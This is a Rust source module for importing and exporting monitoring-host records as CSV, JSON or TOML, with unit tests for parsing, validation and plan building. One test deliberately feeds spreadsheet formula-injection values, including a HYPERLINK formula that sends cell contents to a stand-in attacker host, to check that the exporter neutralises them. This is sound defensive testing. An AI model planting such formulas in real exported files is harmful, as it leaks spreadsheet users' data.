//! Import and export of record settings: the row format (`row`), reading and writing it as
//! CSV or JSON, and checking a whole file against the database before anything is written
//! (`plan`).
//!
//! Pure: no I/O and no SQL. The command reads the file and the existing records, `plan` says
//! what would change or lists every problem, and the store applies the plan.

mod csv;
mod json;
mod plan;
mod row;
mod toml;

pub use self::csv::{neutralised, write_csv};
pub use self::plan::sync;
pub use self::plan::{Action, Planned, plan};
pub use self::row::{COLUMNS, Format, Parsed, Position, Problem, Row, TokenFrom};
pub use self::toml::write_toml;

/// Guesses the format: from the file name's extension, else from the first character.
pub fn detect(name: Option<&str>, text: &str) -> Format {
    let ext = name
        .and_then(|n| n.rsplit_once('.'))
        .map(|(_, e)| e.to_ascii_lowercase());
    match ext.as_deref() {
        Some("json") => Format::Json,
        Some("csv") => Format::Csv,
        Some("toml") => Format::Toml,
        _ if matches!(strip_bom(text).trim_start().chars().next(), Some('[' | '{')) => Format::Json,
        _ => Format::Csv,
    }
}

/// Spreadsheets often start UTF-8 files with a byte-order mark.
fn strip_bom(text: &str) -> &str {
    text.strip_prefix('\u{feff}').unwrap_or(text)
}

/// Reads every row of the file. An error means the file as a whole is unreadable.
pub fn parse(text: &str, format: Format) -> Result<Vec<Parsed>, Problem> {
    let text = strip_bom(text);
    match format {
        Format::Json => self::json::parse_json(text),
        Format::Csv => self::csv::parse_csv(text),
        Format::Toml => self::toml::parse_toml(text),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::model::Threshold;
    use crate::domain::model::{ApiKind, RecordType};

    fn host(r: &str) -> Row {
        Row {
            record_type: RecordType::Host,
            reference: r.into(),
            label: Some(format!("Server {r}, \"main\"")),
            api: ApiKind::ServerManagerV1,
            url: Some(format!("https://{r}.example.com/manager.php")),
            token: Some("s3cr3t".into()),
            probe: Vec::new(),
            enabled: true,
            insecure_tls: false,
            ca_file: Some("/etc/ssl/internal-ca.pem".into()),
            push: false,
            push_grace: None,
            assertions: Default::default(),
            token_from: None,
            host: None,
            remote_name: None,
            discovered: false,
            disk_warn: Some(Threshold::Percent(85.5)),
            disk_crit: Some(Threshold::Bytes(5 << 30)),
            cert_warn_days: Some(30),
            cert_crit_days: None,
        }
    }

    fn instance(r: &str, on: Option<&str>) -> Row {
        Row {
            record_type: RecordType::Instance,
            reference: r.into(),
            label: None,
            api: if on.is_some() {
                ApiKind::ServerManagerV1
            } else {
                ApiKind::Custom
            },
            url: None,
            token: None,
            probe: if on.is_some() {
                Vec::new()
            } else {
                vec!["/bin/check".into(), "a \"quoted\" arg".into(), "x,y".into()]
            },
            enabled: false,
            insecure_tls: true,
            ca_file: None,
            push: false,
            push_grace: None,
            assertions: Default::default(),
            token_from: None,
            host: on.map(str::to_string),
            remote_name: on.map(|_| r.to_string()),
            discovered: on.is_some(),
            disk_warn: None,
            disk_crit: None,
            cert_warn_days: None,
            cert_crit_days: Some(3),
        }
    }

    fn rows_of(parsed: Vec<Parsed>) -> Vec<Row> {
        parsed
            .into_iter()
            .map(|p| p.row.expect("readable row"))
            .collect()
    }

    fn fleet() -> Vec<Row> {
        vec![
            host("srv1"),
            instance("garage", Some("srv1")),
            instance("own", None),
        ]
    }

    #[test]
    fn csv_and_json_read_back_what_they_write() {
        let rows = fleet();
        let csv = String::from_utf8(write_csv(&rows).expect("csv")).expect("utf-8");
        assert_eq!(rows_of(parse(&csv, Format::Csv).expect("parse")), rows);
        let json = serde_json::to_string_pretty(&rows).expect("json");
        assert_eq!(rows_of(parse(&json, Format::Json).expect("parse")), rows);
    }

    #[test]
    fn csv_cells_cannot_run_as_formulas_and_still_read_back_exactly() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-x",
            "@SUM(A1:A9)",
            "\tTabbed",
            "\rReturn",
            "'quoted",
            "''twice",
            "'",
            "plain, \"with\" commas",
        ];
        let mut rows = Vec::new();
        for (i, label) in hostile.iter().enumerate() {
            let mut row = instance(&format!("i{i}"), None);
            row.label = Some((*label).to_string());
            row.probe = vec!["-v".into(), "=cmd".into()];
            row.token = Some(format!("-{label}"));
            rows.push(row);
        }
        let csv = String::from_utf8(write_csv(&rows).expect("csv")).expect("utf-8");
        let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.expect("a record").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} would run in a spreadsheet"
                );
            }
        }
        let back = rows_of(parse(&csv, Format::Csv).expect("parse"));
        assert_eq!(back, rows, "every cell reads back exactly");
        let again = String::from_utf8(write_csv(&back).expect("csv")).expect("utf-8");
        assert_eq!(again, csv, "export, import, export is the identity");
        // A quote typed by hand is the spreadsheet's text marker.
        let typed = parse(
            "type,ref,api,url,label\ninstance,x,ping,http://x/,'=1\n",
            Format::Csv,
        )
        .expect("parse");
        assert_eq!(rows_of(typed)[0].label.as_deref(), Some("=1"));
    }

    #[test]
    fn a_left_out_token_is_absent_in_json_and_empty_in_csv() {
        let mut row = host("srv1");
        row.token = None;
        let json = serde_json::to_value(&row).expect("json");
        assert!(json.get("token").is_none());
        assert_eq!(json["probe"], serde_json::json!([]));
        assert_eq!(json["disk_warn"], "85.5%");
        let csv = String::from_utf8(write_csv(&[row]).expect("csv")).expect("utf-8");
        let line = csv.lines().nth(1).expect("a row");
        assert!(line.contains("manager.php,,,true"), "{line}");
    }

    #[test]
    fn formats_are_told_by_extension_then_content() {
        assert_eq!(detect(Some("x.CSV"), "[]"), Format::Csv);
        assert_eq!(detect(Some("x.json"), "type,ref"), Format::Json);
        assert_eq!(detect(None, "\u{feff}  \n[{}]"), Format::Json);
        assert_eq!(detect(Some("fleet.txt"), "type,ref,api"), Format::Csv);
    }

    #[test]
    fn json_rows_know_their_line_and_place() {
        let text = "[\n  {\"type\": \"host\", \"ref\": \"a\",\n   \"api\": \"custom\", \"probe\": [\"x\"]},\n\n  {\"type\": \"host\", \"ref\": \"b\", \"api\": \"nope\"}, 7\n]";
        let parsed = parse(text, Format::Json).expect("parse");
        let at: Vec<Position> = parsed.iter().map(|p| p.at).collect();
        assert_eq!(
            at,
            [
                Position {
                    line: 2,
                    record: Some(1)
                },
                Position {
                    line: 5,
                    record: Some(2)
                },
                Position {
                    line: 5,
                    record: Some(3)
                },
            ]
        );
        assert!(parsed[0].row.is_ok());
        assert_eq!(parsed[1].ident, Some((RecordType::Host, "b".to_string())));
        assert!(parsed[2].row.is_err());
        let broken = parse("[\n{\"type\": }\n]", Format::Json).expect_err("bad JSON");
        assert_eq!(broken.at.line, 2);
    }

    #[test]
    fn csv_rows_know_their_line_even_after_a_multiline_cell() {
        let text = "type,ref,api,url,label\nhost,a,server-observer-v1,http://a/,\"two\nlines\"\ninstance,b,ping,http://b/\ninstance,c,ping,http://c/,,\n";
        let parsed = parse(text, Format::Csv).expect("parse");
        let lines: Vec<u64> = parsed.iter().map(|p| p.at.line).collect();
        assert_eq!(lines, [2, 4, 5]);
        assert_eq!(
            parsed[0].row.as_ref().map(|r| r.label.clone()),
            Ok(Some("two\nlines".into()))
        );
        // Unequal lengths are reported on their own line.
        assert!(parsed[1].row.is_err() && parsed[2].row.is_err());
        let unknown = parse("type,ref,api,colour\n", Format::Csv).expect_err("unknown column");
        assert!(unknown.message.contains("colour"), "{}", unknown.message);
        let lacking = parse("ref,api\n", Format::Csv).expect_err("no type");
        assert!(lacking.message.contains("'type'"), "{}", lacking.message);
    }

    #[test]
    fn every_field_error_of_a_row_is_kept() {
        let text = "type,ref,api,enabled,disk_warn,cert_warn_days,probe\nthing,x,pong,yes,101%,soon,[1]\n,,,,,,\n";
        let parsed = parse(text, Format::Csv).expect("parse");
        let errors = parsed[0].row.clone().expect_err("bad row");
        assert_eq!(errors.len(), 6, "{errors:?}");
        let missing = parsed[1].row.clone().expect_err("empty row");
        assert_eq!(
            missing,
            ["'type' is missing", "'ref' is missing", "'api' is missing"]
        );
    }

    fn parsed(rows: &[Row]) -> Vec<Parsed> {
        rows.iter()
            .enumerate()
            .map(|(i, r)| Parsed {
                at: Position {
                    line: i as u64 + 2,
                    record: None,
                },
                ident: Some((r.record_type, r.reference.clone())),
                row: Ok(r.clone()),
            })
            .collect()
    }

    #[test]
    fn a_plan_puts_hosts_first_and_a_host_may_come_later_in_the_file() {
        let rows = [instance("garage", Some("srv1")), host("srv1")];
        let plan = plan(parsed(&rows), &[]).expect("valid");
        let order: Vec<(&str, Action)> = plan
            .iter()
            .map(|p| (p.row.reference.as_str(), p.action))
            .collect();
        assert_eq!(
            order,
            [("srv1", Action::Created), ("garage", Action::Created)]
        );
    }

    #[test]
    fn unchanged_updated_and_tokens_kept() {
        let existing = fleet();
        let mut rows = fleet();
        rows[0].token = None; // an export without tokens
        rows[2].label = Some("Own site".into());
        let plan = plan(parsed(&rows), &existing).expect("valid");
        let actions: Vec<(Action, Vec<&str>)> =
            plan.iter().map(|p| (p.action, p.changed.clone())).collect();
        assert_eq!(
            actions,
            [
                (Action::Unchanged, vec![]),
                (Action::Unchanged, vec![]),
                (Action::Updated, vec!["label"]),
            ]
        );
        let mut rows = fleet();
        rows[0].token = Some("new".into());
        let plan = super::plan(parsed(&rows), &existing).expect("valid");
        assert_eq!(plan[0].changed, ["token"]);
    }

    #[test]
    fn a_url_masked_by_export_keeps_the_stored_one_and_is_refused_without_it() {
        let mut stored = host("srv1");
        stored.url = Some("https://admin:pw@srv1.example.com/manager.php?api_key=k".into());
        let mut exported = stored.clone();
        exported.token = None;
        exported.url = exported.url.as_deref().map(crate::domain::secret::redact);
        assert_eq!(
            exported.url.as_deref(),
            Some("https://admin:***@srv1.example.com/manager.php?api_key=***")
        );
        let plan = plan(parsed(std::slice::from_ref(&exported)), &[stored.clone()]).expect("valid");
        assert_eq!(plan[0].action, Action::Unchanged);
        assert_eq!(plan[0].row.url, stored.url, "the stored URL stands");

        let problems = super::plan(parsed(&[exported]), &[]).expect_err("nothing to unmask");
        assert!(problems[0].message.contains("masked"), "{problems:?}");
        assert!(!problems[0].message.contains("pw"), "{problems:?}");
    }

    #[test]
    fn server_manager_instances_default_their_remote_name() {
        let mut garage = instance("garage", Some("srv1"));
        garage.remote_name = None;
        let plan = plan(parsed(&[host("srv1"), garage]), &[]).expect("valid");
        assert_eq!(plan[1].row.remote_name.as_deref(), Some("garage"));
    }

    #[test]
    fn every_bad_row_is_reported_with_its_line() {
        let mut bad_url = instance("shop", None);
        bad_url.api = ApiKind::Ping;
        bad_url.probe = Vec::new();
        bad_url.url = Some("ftp://shop/".into());
        let rows = [
            host("srv1"),
            bad_url,
            instance("garage", Some("ghost")),
            host("srv1"),
            instance("fine", Some("srv1")),
        ];
        let problems = plan(parsed(&rows), &[]).expect_err("invalid");
        let found: Vec<(u64, &str)> = problems
            .iter()
            .map(|p| (p.at.line, p.subject.as_deref().unwrap_or("")))
            .collect();
        assert_eq!(
            found,
            [
                (3, "instance 'shop'"),
                (4, "instance 'garage'"),
                (5, "host 'srv1'")
            ]
        );
        assert!(problems[0].message.contains("ftp"), "{problems:?}");
        assert!(problems[1].message.contains("ghost"), "{problems:?}");
        assert!(problems[2].message.contains("line 2"), "{problems:?}");
        assert_eq!(
            problems[1].to_string(),
            "line 4, instance 'garage': host 'ghost' is neither in the database nor in this file"
        );
    }

    #[test]
    fn a_host_whose_row_is_bad_is_not_reported_again_by_its_instances() {
        let mut rows = parsed(&[host("srv1"), instance("garage", Some("srv1"))]);
        rows[0].row = Err(vec!["'api' is missing".into()]);
        let problems = plan(rows, &[]).expect_err("invalid");
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert_eq!(problems[0].at.line, 2);
    }

    #[test]
    fn host_fields_on_a_host_and_kind_changes_that_strand_stored_instances() {
        let mut h = host("srv1");
        h.remote_name = Some("x".into());
        let problems = plan(parsed(&[h]), &[]).expect_err("invalid");
        assert!(problems[0].message.contains("only for instances"));

        let existing = fleet();
        let mut h = host("srv1");
        h.api = ApiKind::ServerObserverV1;
        let problems = plan(parsed(&[h]), &existing).expect_err("invalid");
        assert!(
            problems[0].message.contains("instance 'garage'"),
            "{problems:?}"
        );
        // Moving the instance off in the same file makes it fine.
        let mut h = host("srv1");
        h.api = ApiKind::ServerObserverV1;
        let mut garage = instance("garage", None);
        garage.discovered = false;
        assert!(plan(parsed(&[h, garage]), &existing).is_ok());
    }

    #[test]
    fn stored_records_are_found_by_type_and_ref() {
        // A host and an instance may share a ref: each row is compared with its own kind.
        let existing = vec![
            host("shop"),
            instance("shop", Some("shop")),
            host("srv2"),
            instance("other", Some("srv2")),
        ];
        let plan = plan(parsed(&existing[..2]), &existing).expect("valid");
        let actions: Vec<Action> = plan.iter().map(|p| p.action).collect();
        assert_eq!(actions, [Action::Unchanged, Action::Unchanged]);
        // A host changing kind is checked against its own stored instances only.
        let mut srv2 = host("srv2");
        srv2.api = ApiKind::ServerObserverV1;
        let problems = super::plan(parsed(&[srv2]), &existing).expect_err("invalid");
        let messages: Vec<&str> = problems.iter().map(|p| p.message.as_str()).collect();
        assert_eq!(messages.len(), 1, "{messages:?}");
        assert!(messages[0].contains("instance 'other'"), "{messages:?}");
    }

    #[test]
    fn a_stored_token_counts_when_checking_a_row() {
        // A server-manager instance may not have a token: one kept from the database counts.
        let mut shop = instance("shop", None);
        shop.api = ApiKind::Ping;
        shop.probe = Vec::new();
        shop.url = Some("https://shop/".into());
        shop.token = Some("t".into());
        let existing = vec![host("srv1"), shop];
        let moved = instance("shop", Some("srv1"));
        let problems = plan(parsed(&[moved]), &existing).expect_err("invalid");
        assert!(problems[0].message.contains("token"), "{problems:?}");
    }
}
